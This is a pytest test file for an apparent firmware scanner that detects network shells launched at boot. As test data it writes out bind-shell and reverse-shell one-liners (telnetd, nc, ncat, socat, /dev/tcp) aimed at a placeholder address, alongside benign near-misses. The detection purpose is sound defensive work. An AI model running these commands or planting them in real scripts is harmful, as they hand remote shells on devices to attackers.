"""Shells that the start gives to the network, and what only looks like one."""

from pathlib import Path

import pytest

from iotscan.model.facts import RemoteShells
from iotscan.observe.image.inspectors import remote_shells
from iotscan.observe.image.readers.folder import FolderTree
from tests.observe.image.looking import heard_of
from tests.observe.image.started_roots import buildroot, debian


def seen(tree: FolderTree) -> list[tuple[str, int, str]]:
    (fact,) = heard_of(remote_shells.INSPECTOR, tree).facts
    assert isinstance(fact, RemoteShells)
    assert fact.commands
    return [(s.path, s.line, s.kind) for s in fact.shells]


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("telnetd -l /bin/sh", "open"),
        ("busybox telnetd -p 2323 -l/bin/ash &", "open"),
        ("/usr/sbin/telnetd -Fl /bin/sh", "open"),
        ("start-stop-daemon -S -x /usr/sbin/telnetd -- -l /bin/sh", "open"),
        ("nc -l -p 4444 -e /bin/sh", "open"),
        ("nc 192.0.2.1 4444 -e /bin/bash", "reverse"),
        ("ncat -lk 9 --sh-exec 'sh -i'", "open"),
        ("socat TCP-LISTEN:1234,fork EXEC:/bin/sh,pty", "open"),
        ("socat TCP:192.0.2.1:1 SYSTEM:'sh -i'", "reverse"),
        ("bash -i >& /dev/tcp/192.0.2.1/1 0>&1", "reverse"),
        ("mkfifo /tmp/f; sh -i </tmp/f 2>&1 | nc -l 4444 >/tmp/f", "open"),
        ("knockd -d", "knock"),
        ("/usr/lib/.x/agent --quiet", "hidden"),
        ("telnetd -l /bin/login", ""),
        ("telnetd", ""),
        ("# telnetd -l /bin/sh", ""),
        ("echo 'telnetd -l /bin/sh'", ""),
        ("[ -x /usr/sbin/telnetd ] && echo telnetd -l /bin/sh", ""),
        ("nc -z gateway 80", ""),
        ("socat TCP-LISTEN:80 TCP:192.0.2.1:80", ""),
        (". /etc/init.d/functions", ""),
        ("cat /root/.profile", ""),
        ("killall telnetd", ""),
        ("sh /etc/x | nc 192.0.2.1 80", ""),
    ],
)
def test_lines_of_a_script(tmp_path: Path, line: str, kind: str) -> None:
    tree = buildroot(tmp_path, {"etc/init.d/S50x": f"#!/bin/sh\n{line}\n"})
    assert seen(tree) == ([("/etc/init.d/S50x", 2, kind)] if kind else [])


def test_a_script_that_nothing_starts_is_none(tmp_path: Path) -> None:
    assert seen(buildroot(tmp_path, {"usr/share/doc/howto.sh": "#!/bin/sh\ntelnetd -l /bin/sh\n"})) == []


def test_units_and_the_scripts_that_they_call(tmp_path: Path) -> None:
    units = "usr/lib/systemd/system"
    files = {
        f"{units}/a.service": "[Service]\nExecStartPre=/bin/sh -c 'telnetd -l /bin/sh'\nExecStart=/usr/bin/a.sh\n",
        f"{units}/off.service": "[Service]\nExecStart=/usr/sbin/telnetd -l /bin/sh\n",
        "usr/bin/a.sh": "#!/bin/sh\n\nsh /usr/lib/b\n",
        "usr/lib/b": "#!/bin/sh\nnc -lp 1 -e /bin/sh\n",
    }
    tree = debian(tmp_path, files, wants=("a.service",))
    assert sorted(seen(tree)) == [("/usr/lib/b", 2, "open"), (f"/{units}/a.service", 2, "open")]


def test_what_inetd_hands_a_shell_to(tmp_path: Path) -> None:
    files = {
        "etc/inetd.conf": "# shell\n5000 stream tcp nowait root /bin/sh sh -i\n",
        "etc/init.d/S40inetd": "#!/bin/sh\n/usr/sbin/inetd\n",
        "usr/sbin/inetd": b"\x7fELF\0",
    }
    assert seen(buildroot(tmp_path, files)) == [("/etc/inetd.conf", 2, "open")]
